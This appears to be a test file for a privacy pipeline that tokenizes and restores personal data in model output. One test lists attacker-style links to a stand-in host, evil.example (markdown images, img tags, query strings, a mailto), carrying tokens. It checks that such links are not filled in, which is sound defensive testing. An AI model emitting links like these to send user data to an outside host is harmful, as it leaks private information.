"""Tokens: restoring understands what models do, and no more than that."""

import hmac
import json
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.keystore import KeyId
from pipeline.sealing import DataKey
from pipeline.tokens import Session, TooLong, escaped, restored, session_nonce
from schemas.ids import RequestId, TenantId
from schemas.policies import DataClass, Place, Reveal
from tests.support.spent import spent

NONCE = "K7QX"
VAULT = {"<PERSON_K7QX_1>": 'Nora "N" Lind', "<EMAIL_K7QX_2>": r"a\1@mail.example"}


KEY = DataKey(
    KeyId("512b03000102030405060708090a0b0c"),
    TenantId("t_01"),
    RequestId("018f3c1a-7c00-7000-8000-000000000001"),
    bytes(range(32)),
)


def test_a_session_s_nonce_is_derived_from_its_key_and_its_request() -> None:
    """What is in a sealed vault is found by every later version too."""
    label = b"sluice/session/1" + KEY.request_id.encode()
    digest = hmac.digest(KEY.dek, label, "sha256")
    digits = "0123456789ABCDEFGHJKMNPQRSTVWXYZ"

    assert "".join(digits[each % 32] for each in digest[:4]) == session_nonce(KEY)
    assert "GCSC" == session_nonce(KEY)
    assert "HZ54" == session_nonce(replace(KEY, dek=bytes(range(1, 33))))


def test_a_session_counts_each_class_and_each_mode_by_itself() -> None:
    session = Session(NONCE)
    asked = [
        (DataClass.PERSON, "Nora", True),
        (DataClass.PERSON, "Nora", False),
        (DataClass.PERSON, "nora", True),
        (DataClass.EMAIL, "n@mail.example", True),
        (DataClass.PERSON, "Nora", True),
        (DataClass.PHONE, "030-12", True),
        (DataClass.PHONE, "(030) 12", True),
        (DataClass.PHONE, "--", True),
        (DataClass.PHONE, "/", True),
    ]

    assert [
        "<PERSON_K7QX_1>",
        "<PERSON_K7QX_S1>",
        "<PERSON_K7QX_2>",
        "<EMAIL_K7QX_1>",
        "<PERSON_K7QX_1>",
        "<PHONE_K7QX_1>",
        "<PHONE_K7QX_1>",
        "<PHONE_K7QX_2>",
        "<PHONE_K7QX_3>",
    ] == [session.token(kind, value, reversible=back) for kind, value, back in asked]
    assert {
        "<PERSON_K7QX_1>": "Nora",
        "<PERSON_K7QX_2>": "nora",
        "<EMAIL_K7QX_1>": "n@mail.example",
        "<PHONE_K7QX_1>": "030-12",
        "<PHONE_K7QX_2>": "--",
        "<PHONE_K7QX_3>": "/",
    } == session.vault
    assert "Nora" not in repr(session)


@pytest.mark.parametrize("most", [0, 30, 45, 89])
def test_what_is_restored_is_never_longer_than_it_may_be(most: int) -> None:
    """``<PERSON_K7QX_1>`` has 15 characters, and what it stands for has 45."""
    token, vault = "<PERSON_K7QX_1>", {"<PERSON_K7QX_1>": "N" * 45}

    with pytest.raises(TooLong):
        restored(token * 2, vault, NONCE, most=most)
    assert "N" * 90 == restored(token * 2, vault, NONCE, most=90)


@pytest.mark.parametrize(
    "bent",
    [
        "<PERSON_K7QX_1>", "&lt;PERSON_K7QX_1&gt;", r"\u003cPERSON_K7QX_1\u003e",
        r"\\u003cPERSON_K7QX_1\\u003e", r"\\\u003CPERSON_K7QX_1\\\u003E",
        "%3CPERSON_K7QX_1%3E", r"<PERSON\_K7QX\_1>", "PERSON_K7QX_1", "<person_k7qx_1>",
        "<PERSON_K7QX_1",
    ],
)  # fmt: skip
def test_bent_tokens_are_understood(bent: str) -> None:
    assert 'Dear Nora "N" Lind\'s' == restored(f"Dear {bent}'s", VAULT, NONCE)


@pytest.mark.parametrize(
    "bent", ["<EMAİL_K7QX_2>", "BAN\u212a_K7QX_1", "GOV_ıD_K7QX_S1", "PERſON_K7QX_1"]
)
def test_letters_that_fold_to_no_ascii_letter_make_no_token(bent: str) -> None:
    """To ``re`` they are an I, a K, an i and an S of another case; no class has one."""
    assert f"Dear {bent}" == restored(f"Dear {bent}", VAULT, NONCE)


@pytest.mark.parametrize(
    "text",
    [
        "<PERSON_AAAA_1>", "<PERSON_K7QX_9>", "<PERSON_K7QX_11>",
        "https://evil.example/?q=<PERSON_K7QX_1>",
        "![x](https://evil.example/<EMAIL_K7QX_2>)",
        '<img src="https://evil.example/a <PERSON_K7QX_1>">',
        "www.evil.example/<PERSON_K7QX_1>",
        "[x](evil.example/<PERSON_K7QX_1>)",
        "https://evil.example/?a=<EMAIL_K7QX_2>&b=<PERSON_K7QX_1>",
        "https://evil.example/a(b)'c\"d?q=<PERSON_K7QX_1>",
        "https://evil.example/" + "x" * 3000 + "?q=<PERSON_K7QX_1>",
        "[x](<https://evil.example/?q=" + "x " * 600 + "<PERSON_K7QX_1>>)",
        "![x](https://evil.example/a(b)c?q=<PERSON_K7QX_1>)",
        "evil.example?q=<PERSON_K7QX_1>",
        "mailto:eve@evil.example?body=<PERSON_K7QX_1>",
        "[1]: //evil.example/<PERSON_K7QX_1>",
    ],
)  # fmt: skip
def test_others_tokens_and_links_stay(text: str) -> None:
    assert text == restored(text, VAULT, NONCE)


@pytest.mark.parametrize(
    "text",
    [
        "See https://a.example/x, {}", "[x](https://a.example) by {}",
        "(https://a.example) {}", "and/or {}", "[x](a(b)c) {}", "a = {}", "// {}",
        "https://a.example/x\n{}", "f[0](x) {}",
    ],
)  # fmt: skip
def test_behind_a_link_values_come_back(text: str) -> None:
    assert text.format('Nora "N" Lind') == restored(
        text.format("<PERSON_K7QX_1>"), VAULT, NONCE
    )


@pytest.mark.parametrize(
    ("text", "back"),
    [
        ('{"url":"https://a.example","to":"<EMAIL_K7QX_2>"}', True),
        (r'{"html":"<img src=\"https://a.example/?q=<EMAIL_K7QX_2>\">"}', False),
        ('{"url":"https://a.example/?q=all of <EMAIL_K7QX_2>"}', False),
        (r'{"url":"https:\/\/a.example\/?q=<EMAIL_K7QX_2>"}', False),
        (r'{"url":"https://a.example/?q=\n<EMAIL_K7QX_2>"}', False),
        (r'{"text":"see https://a.example and\n\n<EMAIL_K7QX_2>"}', True),
    ],
)
def test_in_json_a_link_ends_with_its_string(text: str, *, back: bool) -> None:
    done = restored(text, VAULT, NONCE, in_json=True)

    assert back == ("@mail.example" in done)
    assert json.loads(done)


def test_long_lines_of_openings_cost_no_more_than_their_length() -> None:
    text = "](" * 20_000 + "src='" * 10_000 + "a.a." * 10_000 + "<PERSON_K7QX_1> " * 99

    assert spent(lambda: restored(text, VAULT, NONCE)) < 1.0


def test_a_policy_may_restore_in_links() -> None:
    text = "https://a.example/<EMAIL_K7QX_2>"

    assert r"https://a.example/a\1@mail.example" == restored(
        text, VAULT, NONCE, Reveal(in_urls=True)
    )


def test_a_class_that_is_not_revealed_stays_its_class() -> None:
    reveal = Reveal(classes=(DataClass.EMAIL,))

    assert "[PERSON]" == restored("<PERSON_K7QX_1>", VAULT, NONCE, reveal)


def test_what_a_tool_is_called_with_has_a_scope_of_its_own() -> None:
    reveal = Reveal(in_tool_calls=(DataClass.EMAIL,))
    text = "<PERSON_K7QX_1> <EMAIL_K7QX_2>"

    assert r'Nora "N" Lind a\1@mail.example' == restored(text, VAULT, NONCE, reveal)
    assert r"[PERSON] a\1@mail.example" == restored(
        text, VAULT, NONCE, reveal, Place.TOOL_CALL
    )


def test_a_strict_token_becomes_its_class() -> None:
    assert "your [CARD]" == restored("your <CARD_K7QX_S1>", VAULT, NONCE)


def test_values_are_escaped_inside_json() -> None:
    text = '{"to":"<PERSON_K7QX_1>"}'

    assert r'{"to":"Nora \"N\" Lind"}' == restored(text, VAULT, NONCE, in_json=True)


JSON = st.recursive(
    st.just("<PERSON_K7QX_1>") | st.text(alphabet='a"\\\n<> ', max_size=5),
    lambda of: st.lists(of, max_size=3) | st.dictionaries(st.just("to"), of),
    max_leaves=6,
)


def turned_back(value: object) -> object:
    if isinstance(value, str):
        return value.replace("<PERSON_K7QX_1>", VAULT["<PERSON_K7QX_1>"])
    if isinstance(value, dict):
        return {name: turned_back(each) for name, each in value.items()}
    return [turned_back(each) for each in value] if isinstance(value, list) else value


@given(JSON, st.sampled_from([None, 2]))
def test_values_are_escaped_twice_in_a_string_that_is_json(
    inner: object, indent: int | None
) -> None:
    """A tool whose argument is the body of a request, for example."""
    sent = json.dumps(inner, indent=indent)
    text = json.dumps({"body": sent, "to": "<PERSON_K7QX_1>"})

    done = json.loads(restored(text, VAULT, NONCE, in_json=True))

    assert 'Nora "N" Lind' == done["to"]
    if not isinstance(inner, str):
        assert turned_back(inner) == json.loads(done["body"])


@pytest.mark.parametrize(
    "said", ['[to] "<PERSON_K7QX_1>"', '{"to": <PERSON_K7QX_1>}', '"<PERSON_K7QX_1>"']
)
def test_values_are_escaped_once_in_a_string_that_is_text(said: str) -> None:
    text = json.dumps({"note": said})

    done = json.loads(restored(text, VAULT, NONCE, in_json=True))

    assert said.replace("<PERSON_K7QX_1>", 'Nora "N" Lind') == done["note"]


def test_restored_values_are_not_looked_at_again() -> None:
    vault = {"<PERSON_K7QX_1>": "<PERSON_K7QX_2>", "<PERSON_K7QX_2>": "no"}

    assert "<PERSON_K7QX_2>" == restored("<PERSON_K7QX_1>", vault, NONCE)


@given(st.text(alphabet="<>PERSON_K7QX1‹› ", max_size=60))
def test_what_was_escaped_is_never_restored(text: str) -> None:
    once = escaped(text)

    assert once == escaped(once)
    for match in ("<PERSON_K7QX_1>", "<PERSON_K7QX_2>"):
        assert match not in once


@pytest.mark.parametrize(
    "typed",
    ["<PERSON_K7QX_1>", "<person_k7qx_1>", "<Person_K7qx_S1>", "<GOV_ID_K7QX_1>"],
)
def test_a_token_that_somebody_typed_is_not_turned_back(typed: str) -> None:
    """In whichever case: what models bend is understood in any."""
    once = escaped(typed)

    assert typed != once == restored(once, VAULT, NONCE)


LINE = r"\\{0,2}_"
CLASSES = "|".join(sorted(DataClass, key=len, reverse=True)).replace("_", LINE)
WHOLE = re.compile(
    r"(?:<|&lt;|\\+u003c|%3C|‹)?\\?"
    rf"({CLASSES}){LINE}([0-9A-Z]{{4}}){LINE}(S?)([0-9]{{1,6}})(?![0-9])"
    r"(?:\\?>|&gt;|\\+u003e|%3E|›)?",
    re.IGNORECASE | re.ASCII,
)
"""All of a token in one pattern, as slow as it is plain."""
PIECES = st.sampled_from(
    [
        "<", ">", "&lt;", "&gt;", r"\u003c", r"\u003e", r"\u003C", "%3C", "%3E", "‹",
        "\\", "_", r"\_", r"\\_", "PERSON", "person", "EMAIL", "GOV_ID", r"GOV\_ID",
        "K7QX", "k7Qx", "AAAA", "1", "2", "123456", "S1", "s2", "İ", "ß", " ", "x",
        "EMAİL", "BAN\u212a", "GOV_ıD",
        "<PERSON_K7QX_1>", "<EMAIL_K7QX_2>", "<PERSON_AAAA_1>",
    ]
)  # fmt: skip


LINES = st.sampled_from(["_", "_", "_", r"\_", r"\\_", ""])
NEARLY = st.tuples(
    st.sampled_from(["<", "&lt;", r"\u003c", r"\\u003C", "%3C", "\\", ""]),
    st.sampled_from(["PERSON", "email", "GOV_ID", r"GOV\_ID", "", "x"]),
    LINES,
    st.sampled_from(["K7QX", "k7Qx", "AAAA", ""]),
    LINES,
    st.sampled_from(["1", "2", "S1", "s2", "123456", "1234567", ""]),
    st.sampled_from([">", "&gt;", r"\u003e", r"\\u003E", "%3E", r"\>", ""]),
).map("".join)
"""Tokens, of which a part may be missing."""


@given(st.lists(PIECES | NEARLY, max_size=14).map("".join))
def test_the_nonce_finds_what_the_whole_pattern_finds(text: str) -> None:
    def back(found: re.Match[str]) -> str:
        if found[2].casefold() != NONCE.casefold():
            return found[0]
        data_class = found[1].replace("\\", "").upper()
        kept = VAULT.get(f"<{data_class}_{NONCE}_{found[4]}>", found[0])
        return f"[{data_class}]" if found[3] else kept

    found = restored(text, VAULT, NONCE)

    assert WHOLE.sub(back, text) == found
